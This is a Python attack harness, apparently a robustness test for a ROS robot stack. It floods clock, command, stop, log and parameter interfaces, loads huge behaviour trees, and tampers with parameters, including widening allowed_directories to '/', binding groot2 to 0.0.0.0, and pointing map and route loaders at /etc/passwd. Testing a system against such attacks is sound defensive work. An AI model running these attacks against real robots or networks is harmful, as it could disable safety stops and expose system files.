# SPDX-License-Identifier: BSD-3-Clause
"""Attacks on a robot and its consoles by a program that has joined the ROS domain, each by its name, for a time.

Usage: python3 _attack.py NAME [SECONDS]    (without SECONDS: until it is killed, or its parent ends)

  clock         times before 1970 on /clock, 100 a second
  robots        statuses of 1,000 robots that do not exist, one a second each
  participants  60 participants of one process, each with 45 commands and 45 false stops a second
  trees         eight runs of trees of 60,000 nodes, with ten statuses a second
  loader        trees of 0.9 MB for the BT server to load, each under a name of its own, one after the other
  log           notes for the log of the executive, 40 a second, of 1,000 characters each
  parameters    requests for a million parameters to each node, one after the other
  settings      directories, addresses and limits that are set, and files that are named, at each node, 50 a second

A line on standard output says that it has begun.
"""

from __future__ import annotations

import ctypes
import itertools
import os
import signal
import sys
import time
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import rclpy
from nav2_msgs.srv import LoadMap, SetRouteGraph
from rcl_interfaces.msg import Parameter, ParameterType, ParameterValue
from rcl_interfaces.srv import GetParameters, SetParameters
from rclpy.action import ActionClient
from rclpy.context import Context
from rclpy.node import Node
from rclpy.qos import QoSProfile, ReliabilityPolicy
from rclpy.signals import SignalHandlerOptions
from rosgraph_msgs.msg import Clock

from flexbt_common import names
from flexbt_msgs.action import BtLoad
from flexbt_msgs.msg import ExecutiveCommand

PR_SET_PDEATHSIG: Final = 1  # prctl(2)

NODES: Final = ('onboard_executive', 'bt_server', 'navigation', 'simulator', 'stop_guard', 'console')


def main(name: str, seconds: float) -> None:
    """Attack for so long."""
    ctypes.CDLL(None).prctl(PR_SET_PDEATHSIG, signal.SIGKILL)
    if seconds:
        signal.setitimer(signal.ITIMER_REAL, seconds)  # which ends it, whatever it runs then
    if name in FORGED:
        script = str(Path(__file__).with_name('_forge.py'))
        os.execv(sys.executable, [sys.executable, script, *FORGED[name], str(os.getppid())])
    rclpy.init(signal_handler_options=SignalHandlerOptions.NO)
    node = rclpy.create_node('attacker')
    send, rate = ATTACKS[name](node)
    print('attacks', flush=True)
    began = time.monotonic()
    for turn in itertools.count(1):
        send()
        time.sleep(max(0.0, began + turn / rate - time.monotonic()))


Attack = tuple[Callable[[], object], float]
"""What is done in each turn, and turns a second."""


def clock(node: Node) -> Attack:
    """Send times before 1970."""
    publisher = node.create_publisher(Clock, names.CLOCK, QoSProfile(depth=1, reliability=ReliabilityPolicy.RELIABLE))
    message = Clock()
    message.clock.sec = -5
    return lambda: publisher.publish(message), 100.0


def participants(_node: Node) -> Attack:
    """Return each is within the limits of a participant."""
    publishers = []
    for number in range(PARTICIPANTS):
        context = Context()
        rclpy.init(context=context)
        node = rclpy.create_node(f'participant{number}', context=context)
        publishers += [
            node.create_publisher(ExecutiveCommand, names.EXECUTIVE_COMMAND, names.command_qos()),
            node.create_publisher(ExecutiveCommand, names.EXECUTIVE_STOP, names.stop_qos()),
        ]

    def send() -> None:
        for publisher in publishers:
            publisher.publish(ExecutiveCommand(id=uuid.uuid4().hex, kind=ExecutiveCommand.NOTE, text='flood'))

    return send, 45.0


PARTICIPANTS: Final = int(os.environ.get('PARTICIPANTS', '60'))


def loader(node: Node) -> Attack:
    """Return each is a tree, and a large one."""
    client = ActionClient(node, BtLoad, names.BT_LOADER)
    client.wait_for_server()
    nodes = '<AlwaysSuccess/>' * 55_000
    numbers = itertools.count()

    def send() -> None:
        tree = f'<BehaviorTree ID="Forged{next(numbers)}"><Sequence>{nodes}</Sequence></BehaviorTree>'
        goal = BtLoad.Goal(xml=f'<root BTCPP_format="4">{tree}</root>')
        sent = client.send_goal_async(goal)
        rclpy.spin_until_future_complete(node, sent, timeout_sec=10.0)
        if sent.done() and sent.result().accepted:
            rclpy.spin_until_future_complete(node, sent.result().get_result_async(), timeout_sec=30.0)

    return send, 10.0


def log(node: Node) -> Attack:
    """Return each is within the limits of a note, and gets into the log."""
    publisher = node.create_publisher(ExecutiveCommand, names.EXECUTIVE_COMMAND, names.command_qos())
    text = 'n' * ExecutiveCommand.NOTE_LENGTH

    def send() -> None:
        publisher.publish(ExecutiveCommand(id=uuid.uuid4().hex, kind=ExecutiveCommand.NOTE, text=text))

    return send, 40.0


def parameters(node: Node) -> Attack:
    """Return the request is as large as it is useless."""
    clients = [node.create_client(GetParameters, f'{name}/get_parameters') for name in NODES]
    request = GetParameters.Request(names=['x'] * 1_000_000)
    return _asking(node, [(client, request) for client in clients]), 1.0


def settings(node: Node) -> Attack:
    """Set parameters that decide over files and addresses."""
    texts = {
        'allowed_directories': ['/'],
        'journal_directory': '/tmp',  # noqa: S108
        'event_log_directory': '/tmp',  # noqa: S108
        'groot2_address': '0.0.0.0',  # noqa: S104
    }
    values = [Parameter(name=name, value=_value(value)) for name, value in texts.items()]
    calls = [
        (node.create_client(SetParameters, f'{name}/set_parameters'), SetParameters.Request(parameters=values))
        for name in NODES
    ]
    load = LoadMap.Request(map_url='/etc/passwd')
    graph = SetRouteGraph.Request(graph_filepath='/etc/passwd')
    calls.append((node.create_client(LoadMap, 'map_server/load_map'), load))
    calls.append((node.create_client(SetRouteGraph, names.SET_ROUTE_GRAPH), graph))
    return _asking(node, calls), 50.0


def _value(value: Any) -> ParameterValue:
    if isinstance(value, str):
        return ParameterValue(type=ParameterType.PARAMETER_STRING, string_value=value)
    return ParameterValue(type=ParameterType.PARAMETER_STRING_ARRAY, string_array_value=value)


def _asking(node: Node, calls: list[tuple[Any, Any]]) -> Callable[[], object]:
    """Ask those that are there, and take no answer."""

    def send() -> None:
        for client, request in calls:
            if client.service_is_ready():
                client.handle.send_request(request)

    return send


FORGED: Final = {'robots': ('robots', '1000', '1'), 'trees': ('trees', '8', '60000')}
"""What :mod:`_forge` does."""

ATTACKS: Final[dict[str, Callable[[Node], Attack]]] = {
    'clock': clock,
    'participants': participants,
    'loader': loader,
    'log': log,
    'parameters': parameters,
    'settings': settings,
}

NAMES: Final = (*ATTACKS, *FORGED)


if __name__ == '__main__':
    if len(sys.argv) < 2 or sys.argv[1] not in NAMES:
        sys.exit(__doc__)
    main(sys.argv[1], float(sys.argv[2]) if len(sys.argv) > 2 else 0.0)
